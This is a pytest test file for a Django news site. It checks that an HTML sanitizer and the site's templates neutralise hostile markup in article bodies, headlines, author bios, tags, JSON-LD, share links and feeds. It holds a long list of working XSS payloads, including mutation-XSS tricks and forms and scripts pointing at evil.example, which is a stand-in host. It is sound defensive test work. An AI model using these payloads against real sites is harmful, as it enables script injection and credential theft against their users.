"""Hostile text: rich-text payloads are stripped, and markup in titles, names, bios and tags
stays inert wherever it is printed — HTML, <title>, Open Graph, JSON-LD, share links, feeds."""

import json
from urllib.parse import parse_qsl, urlsplit
from xml.etree.ElementTree import Element as XmlElement

import defusedxml.ElementTree as SafeXml
import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from articles.models import Article
from newsroom.sanitize import ALLOWED_TAGS, sanitize_html
from tests.factories import (
    ArticleFactory,
    AuthorFactory,
    BookFactory,
    SectionFactory,
    image_file,
)

from .helpers import Page, assert_page_runs_no_injected_script, assert_sanitized

pytestmark = pytest.mark.django_db

RICH_TEXT_PAYLOADS = {
    "script": "<p>a</p><script>alert(1)</script>",
    "script-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "split-script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "attribute-breakout": '"><script>alert(1)</script>',
    "quote-confusion": '<img """><script>alert(1)</script>">',
    "onclick": "<p onclick=alert(1)>click</p>",
    "onerror": '<img src=x onerror="alert(1)">',
    "onerror-eval": "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "unknown-tag-handler": "<xss onafterscriptexecute=alert(1)>x</xss>",
    "video-source": "<video><source onerror=alert(1)></video>",
    "javascript-url": '<a href="javascript:alert(1)">x</a>',
    "javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript-tab": '<a href="jav\tascript:alert(1)">x</a>',
    "javascript-newline": '<a href="jav\nascript:alert(1)">x</a>',
    "javascript-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript-newline-entity": '<a href="jav&#10;ascript:alert(1)">x</a>',
    "javascript-decimal-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
    ),
    "javascript-hex-entities-no-semicolons": (
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'
    ),
    "javascript-named-colon": '<a href="javascript&colon;alert(1)">x</a>',
    "javascript-leading-space": '<a href="  javascript:alert(1)">x</a>',
    "javascript-leading-control": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript-nul": '<a href="java\x00script:alert(1)">x</a>',
    "vbscript-url": '<a href="vbscript:msgbox(1)">x</a>',
    "data-url-link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data-url-image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "data-url-mixed-case": '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>',
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg-set-href": '<svg><a><set attributeName=href to="javascript:alert(1)"/>x</a></svg>',
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math-xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "svg-style-breakout": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "form-math-mutation": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment-breakout": "<!--<img src=x onerror=alert(1)>-->",
    "bogus-comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "style-attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "style-element": "<style>body{background:url(//evil.example/track)}</style><p>x</p>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    "formaction": '<button formaction="javascript:alert(1)">x</button>',
    "base": '<base href="https://evil.example/"><a href="/x">x</a>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "link-stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "template": "<template><script>alert(1)</script></template>",
    "textarea-breakout": "<textarea></textarea><script>alert(1)</script>",
    "title-breakout": "<title></title><script>alert(1)</script>",
    "target-blank": '<a href="https://ok.example/" target="_blank">x</a>',
}


@pytest.mark.parametrize("payload", RICH_TEXT_PAYLOADS.values(), ids=RICH_TEXT_PAYLOADS.keys())
def test_sanitizer_strips_payload(payload):
    cleaned = sanitize_html(payload)
    assert_sanitized(cleaned)
    assert sanitize_html(cleaned) == cleaned


def test_sanitizer_keeps_ordinary_markup():
    html = (
        "<h2>Budget</h2><p>The <strong>vote</strong> was <em>close</em>: "
        '<a href="https://council.example.org/minutes">minutes</a>.</p>'
        "<blockquote><p>We will fund it.</p></blockquote><ul><li>One</li></ul>"
    )
    cleaned = sanitize_html(html)
    for fragment in ("<h2>Budget</h2>", "<strong>vote</strong>", "<em>close</em>", "<li>One"):
        assert fragment in cleaned
    assert 'href="https://council.example.org/minutes"' in cleaned


@pytest.mark.parametrize("payload", RICH_TEXT_PAYLOADS.values(), ids=RICH_TEXT_PAYLOADS.keys())
def test_saved_article_body_is_sanitized_and_renders_inert(client, payload):
    article = ArticleFactory(body=f"<p>Before.</p>{payload}<p>After.</p>")
    article.refresh_from_db()
    assert_sanitized(article.body)
    response = client.get(article.get_absolute_url())
    assert response.status_code == 200
    assert_page_runs_no_injected_script(response.content.decode())


# --- Property: idempotent, and nothing outside the allowlist --------------------------------

_TAGS = sorted(ALLOWED_TAGS) + [
    "script", "style", "iframe", "svg", "math", "form", "base", "meta", "object", "embed",
    "template", "noscript", "mglyph", "mtext", "select", "textarea", "title", "xmp", "div",
    "span", "input", "button", "plaintext", "noembed", "frameset", "annotation-xml", "desc",
]  # fmt: skip
_ATTRIBUTES = [
    "href", "src", "onclick", "onerror", "onload", "style", "title", "alt", "cite",
    "xlink:href", "srcdoc", "action", "formaction", "class", "id", "rel", "target",
    "colspan", "width", "data-x", "is",
]  # fmt: skip
_VALUES = st.one_of(
    st.sampled_from(
        [
            "javascript:alert(1)",
            "JaVa&#x09;Script:alert(1)",
            "java\nscript:x",
            "data:text/html,<script>alert(1)</script>",
            "https://ok.example/",
            "mailto:desk@example.org",
            "#anchor",
            "/relative",
            'x" onmouseover="alert(1)',
            "</textarea><script>alert(1)</script>",
        ]
    ),
    st.text(max_size=12),
)
_TEXT = st.text(
    alphabet=st.one_of(
        st.characters(blacklist_categories=("Cs",)),
        st.sampled_from(list("<>&\"'/=!-`")),
    ),
    max_size=16,
)


@st.composite
def _element(draw, children):
    tag = draw(st.sampled_from(_TAGS))
    attrs = draw(st.lists(st.tuples(st.sampled_from(_ATTRIBUTES), _VALUES), max_size=3))
    quote = draw(st.sampled_from(['"', "'", ""]))
    rendered = "".join(f" {name}={quote}{value}{quote}" for name, value in attrs)
    inner = "".join(draw(st.lists(children, max_size=3)))
    closing = draw(st.sampled_from([f"</{tag}>", "", f"</ {tag}>", f"</{tag.upper()}>"]))
    return f"<{tag}{rendered}>{inner}{closing}"


HTML_FRAGMENTS = st.recursive(_TEXT, lambda children: _element(children), max_leaves=24)


@settings(max_examples=400, deadline=None, database=None)
@given(st.lists(HTML_FRAGMENTS, min_size=1, max_size=4).map("".join))
def test_sanitizing_is_idempotent_and_allowlisted(html):
    cleaned = sanitize_html(html)
    assert sanitize_html(cleaned) == cleaned
    assert_sanitized(cleaned)


# --- Markup in titles, names, bios and tags stays text ---------------------------------------

BREAKOUT = '</script><script>alert("pwned")</script><!--<img src=x onerror=alert(1)>--> & "q" \''


@pytest.fixture
def hostile_site():
    """Every text field a reader or machine sees, carrying markup that tries to break out."""
    section = SectionFactory(name="News </script><b>bold</b>")
    author = AuthorFactory(
        name="Ann </script><script>alert(2)</script>",
        short_bio=BREAKOUT,
        long_bio=BREAKOUT,
        job_title="Editor </title><script>alert(5)</script>",
    )
    article = ArticleFactory(
        headline=f"Budget vote {BREAKOUT}",
        dek=BREAKOUT,
        excerpt=BREAKOUT,
        section=section,
        authors=[author],
        tags=['</script><script>alert(3)</script>"tag'],
        featured_image=image_file(size=(1600, 900)),
        featured_image_alt="Council chamber </script><script>alert(6)</script>",
        featured_image_caption=BREAKOUT,
        featured_image_credit=BREAKOUT,
    )
    book = BookFactory(
        title="The </script><script>alert(4)</script> Book", description=BREAKOUT, authors=[author]
    )
    return {"section": section, "author": author, "article": article, "book": book}


def _pages(site):
    article = site["article"]
    tag = article.tags.first()
    return {
        "home": "/",
        "article": article.get_absolute_url(),
        "section": site["section"].get_absolute_url(),
        "tag": reverse("articles:tag", kwargs={"slug": tag.slug}),
        "author": site["author"].get_absolute_url(),
        "authors": reverse("authors:list"),
        "books": reverse("books:list"),
        "book": site["book"].get_absolute_url(),
        "search": reverse("articles:search") + "?q=budget",
        "search-echo": reverse("articles:search")
        + "?q=%3C%2Fscript%3E%3Cscript%3Ealert(7)%3C%2Fscript%3E",
    }


def test_hostile_text_runs_no_script_on_any_page(client, hostile_site):
    for name, url in _pages(hostile_site).items():
        response = client.get(url)
        assert response.status_code == 200, name
        assert_page_runs_no_injected_script(response.content.decode())


def _walk_strings(value):
    if isinstance(value, dict):
        for item in value.values():
            yield from _walk_strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _walk_strings(item)
    elif isinstance(value, str):
        yield value


def test_json_ld_holds_the_text_exactly_and_stays_one_script(client, hostile_site):
    article = hostile_site["article"]
    for name, url in _pages(hostile_site).items():
        page = Page(client.get(url).content.decode())
        if name == "article" and not page.json_ld:
            pytest.fail("the article page has no JSON-LD")
        for block in page.json_ld:
            assert "</script" not in block.lower(), name
            assert "<!--" not in block, name
            json.loads(block)  # complete and valid: nothing was cut off by the payload
    strings = set()
    for block in Page(client.get(article.get_absolute_url()).content.decode()).json_ld:
        strings |= set(_walk_strings(json.loads(block)))
    assert article.headline in strings
    assert hostile_site["author"].name in strings


def test_title_and_social_tags_hold_the_text(client, hostile_site):
    article = hostile_site["article"]
    page = Page(client.get(article.get_absolute_url()).content.decode())
    titles = page.all("title")
    assert article.headline in titles[0].text
    for key in ("og:title", "twitter:title"):
        values = page.meta(key)
        assert values and article.headline in values[0], key
    assert page.meta("og:image:alt") == [article.featured_image_alt]
    author_page = Page(client.get(hostile_site["author"].get_absolute_url()).content.decode())
    assert hostile_site["author"].name in author_page.all("title")[0].text


SHARE_HOSTS = (
    "facebook.com",
    "x.com",
    "twitter.com",
    "bsky.app",
    "linkedin.com",
    "reddit.com",
    "pinterest.com",
)


def test_share_links_carry_the_text_as_data(client, hostile_site):
    article = hostile_site["article"]
    page = Page(client.get(article.get_absolute_url()).content.decode())
    share_links = [
        element.attrs["href"]
        for element in page.all("a")
        if any(host in urlsplit(element.attrs.get("href", "")).netloc for host in SHARE_HOSTS)
        or element.attrs.get("href", "").startswith("mailto:")
    ]
    assert share_links, "no share links on the article page"
    carried = 0
    for href in share_links:
        parts = urlsplit(href)
        assert parts.scheme in {"https", "mailto"}, href
        assert not any(char in href for char in '<>"\n'), href
        values = [value for _, value in parse_qsl(parts.query)]
        carried += any(article.headline in value for value in values)
    assert carried >= 2, "the headline should travel, intact, in the share links' text"


def _xml_texts(root: XmlElement) -> list[str]:
    return [element.text for element in root.iter() if element.text]


@pytest.mark.parametrize("url", ["/feed/", "/feed/atom/"])
def test_feeds_are_well_formed_and_hold_the_text(client, hostile_site, url):
    response = client.get(url)
    assert response.status_code == 200
    root = SafeXml.fromstring(response.content)
    texts = _xml_texts(root)
    assert any(hostile_site["article"].headline == text.strip() for text in texts)


@pytest.mark.parametrize(
    "headline",
    [
        "Vote count\x0bcontinues",  # vertical tab, as pasted from word processors
        "Results\x1fare in",
        "Line\u2028separator and \ufffe non-character",
    ],
)
@pytest.mark.parametrize("url", ["/feed/", "/feed/atom/", "/sitemap-news.xml"])
def test_feeds_stay_well_formed_with_control_characters(client, headline, url):
    ArticleFactory(headline=headline)
    response = client.get(url)
    assert response.status_code == 200
    SafeXml.fromstring(response.content)


def test_body_payloads_stay_out_of_feeds(client):
    ArticleFactory(body="<p>Text</p>" + "".join(RICH_TEXT_PAYLOADS.values()))
    for url in ("/feed/", "/feed/atom/"):
        root = SafeXml.fromstring(client.get(url).content)
        for text in _xml_texts(root):
            if "<" in text:  # escaped HTML content of an item
                assert_sanitized(text.strip())


def test_article_model_sanitizes_on_every_save():
    article = ArticleFactory(body="<p>ok</p>")
    Article.objects.filter(pk=article.pk).update(body="<script>alert(1)</script><p>ok</p>")
    article.refresh_from_db()
    article.save()
    article.refresh_from_db()
    assert "<script" not in article.body
